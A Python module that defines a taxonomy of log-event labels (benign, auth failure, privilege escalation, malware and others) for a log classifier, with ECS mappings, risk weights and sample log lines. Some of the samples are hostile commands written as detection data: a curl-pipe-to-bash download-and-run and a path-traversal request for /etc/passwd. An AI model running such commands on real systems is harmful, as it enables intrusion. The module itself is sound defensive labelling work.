"""The log-event taxonomy: every label, what it means, and how it lands in ECS.

This module is the single place that defines a label. The generator, the Loghub labelling,
training, risk scoring and the golden tests all read :data:`TAXONOMY`, so adding a label is
one new :class:`LogLabel` entry here (plus scenarios for it in the generator's table).
"""

from __future__ import annotations

from dataclasses import dataclass


@dataclass(frozen=True)
class LogLabel:
    """One class of log event, documented for analysts and mapped to ECS."""

    name: str
    description: str
    examples: tuple[str, ...]
    ecs_category: tuple[str, ...]
    ecs_type: tuple[str, ...]
    # How dangerous a confident prediction of this label is (0..1); drives event.risk_score.
    risk_weight: float


TAXONOMY: tuple[LogLabel, ...] = (
    LogLabel(
        name="benign",
        description="Routine activity: successful logins, normal requests, cron runs, "
        "informational service chatter.",
        examples=(
            "sshd[2211]: Accepted publickey for deploy from 10.0.4.7 port 51822 ssh2",
            '10.1.2.3 - - [12/Mar/2024:10:01:02 +0000] "GET /index.html HTTP/1.1" 200 512',
            "CRON[3301]: (root) CMD (run-parts /etc/cron.hourly)",
        ),
        ecs_category=("process",),
        ecs_type=("info",),
        risk_weight=0.0,
    ),
    LogLabel(
        name="auth_failure",
        description="A failed authentication: wrong password, unknown user, rejected key, "
        "PAM authentication failure.",
        examples=(
            "sshd[811]: Failed password for invalid user admin from 203.0.113.9 port 4122 ssh2",
            "sshd(pam_unix)[1931]: authentication failure; logname= uid=0 euid=0 rhost=1.2.3.4",
        ),
        ecs_category=("authentication",),
        ecs_type=("start",),
        risk_weight=0.55,
    ),
    LogLabel(
        name="privilege_escalation",
        description="Attempts to gain rights: sudo by users not in sudoers, failed su to "
        "root, setuid abuse, kernel exploits.",
        examples=(
            "sudo: mallory : user NOT in sudoers ; TTY=pts/1 ; PWD=/home/mallory ; "
            "USER=root ; COMMAND=/bin/bash",
            "su[4410]: FAILED SU (to root) bob on pts/2",
        ),
        ecs_category=("iam", "process"),
        ecs_type=("admin", "start"),
        risk_weight=0.9,
    ),
    LogLabel(
        name="account_change",
        description="Accounts or groups created, deleted or modified; passwords changed.",
        examples=(
            "useradd[1201]: new user: name=backup2, UID=1003, GID=1003, home=/home/backup2",
            "usermod[881]: add 'eve' to group 'sudo'",
        ),
        ecs_category=("iam",),
        ecs_type=("user", "change"),
        risk_weight=0.6,
    ),
    LogLabel(
        name="intrusion_attempt",
        description="Break-in attempts, scanners and web attacks (path traversal, SQL "
        "injection, command injection, XSS), reverse-DNS spoofing warnings.",
        examples=(
            '198.51.100.4 - - [12/Mar/2024:10:01:02 +0000] "GET /../../etc/passwd HTTP/1.1" 404 0',
            "sshd[24200]: reverse mapping checking getaddrinfo for x.example [1.2.3.4] failed"
            " - POSSIBLE BREAK-IN ATTEMPT!",
        ),
        ecs_category=("intrusion_detection", "network"),
        ecs_type=("denied", "info"),
        risk_weight=0.85,
    ),
    LogLabel(
        name="malware",
        description="Suspicious execution: download-and-run, reverse shells, crypto miners, "
        "encoded command lines.",
        examples=(
            "sudo: www-data : COMMAND=/bin/sh -c curl -s http://203.0.113.5/x.sh | bash",
            "kernel: xmrig[3120]: segfault at 0 ip 000000 sp 000000 error 4",
        ),
        ecs_category=("malware", "process"),
        ecs_type=("start", "info"),
        risk_weight=1.0,
    ),
    LogLabel(
        name="hardware_fault",
        description="Hardware errors: machine checks, ECC/parity errors, TLB or storage "
        "interrupts, failing fans, temperature alarms, unavailable components.",
        examples=(
            "RAS KERNEL FATAL data TLB error interrupt",
            "kernel: mce: [Hardware Error]: CPU 2: Machine Check: 0 Bank 5: be00000000800400",
        ),
        ecs_category=("host",),
        ecs_type=("error",),
        risk_weight=0.75,
    ),
    LogLabel(
        name="storage",
        description="Disk and file-system problems: I/O errors, full disks, failed mounts, "
        "RAID degradation, read-only remounts.",
        examples=(
            "kernel: blk_update_request: I/O error, dev sda, sector 123456",
            "RAS KERNEL FATAL Lustre mount FAILED : bglio11 : block_id : location",
        ),
        ecs_category=("file", "host"),
        ecs_type=("error",),
        risk_weight=0.7,
    ),
    LogLabel(
        name="network",
        description="Network faults: links down, unreachable hosts, timeouts, connection "
        "refused or reset, DNS failures.",
        examples=(
            "kernel: e1000e 0000:00:19.0 eth0: NIC Link is Down",
            "RAS KERNEL FATAL Error receiving packet on tree network, expecting type 57",
        ),
        ecs_category=("network",),
        ecs_type=("error", "connection"),
        risk_weight=0.6,
    ),
    LogLabel(
        name="service_failure",
        description="Software failing: crashes, segfaults, OOM kills, exception traces, "
        "restart loops, fatal application errors.",
        examples=(
            "systemd[1]: nginx.service: Main process exited, code=killed, status=9/KILL",
            "kernel: Out of memory: Killed process 4121 (java) total-vm:8123456kB",
        ),
        ecs_category=("process",),
        ecs_type=("error", "end"),
        risk_weight=0.65,
    ),
)

LABELS: tuple[str, ...] = tuple(label.name for label in TAXONOMY)
BENIGN = "benign"
#: Labels of IT-operations incidents rather than security ones: their alerts also open a ticket.
OPERATIONAL_LABELS = frozenset({"hardware_fault", "storage", "network", "service_failure"})
_BY_NAME = {label.name: label for label in TAXONOMY}


def label_info(name: str) -> LogLabel:
    """The taxonomy entry of a label name, with a clear error for an unknown one."""
    try:
        return _BY_NAME[name]
    except KeyError:
        raise KeyError(f"unknown log label {name!r}; known: {', '.join(LABELS)}") from None
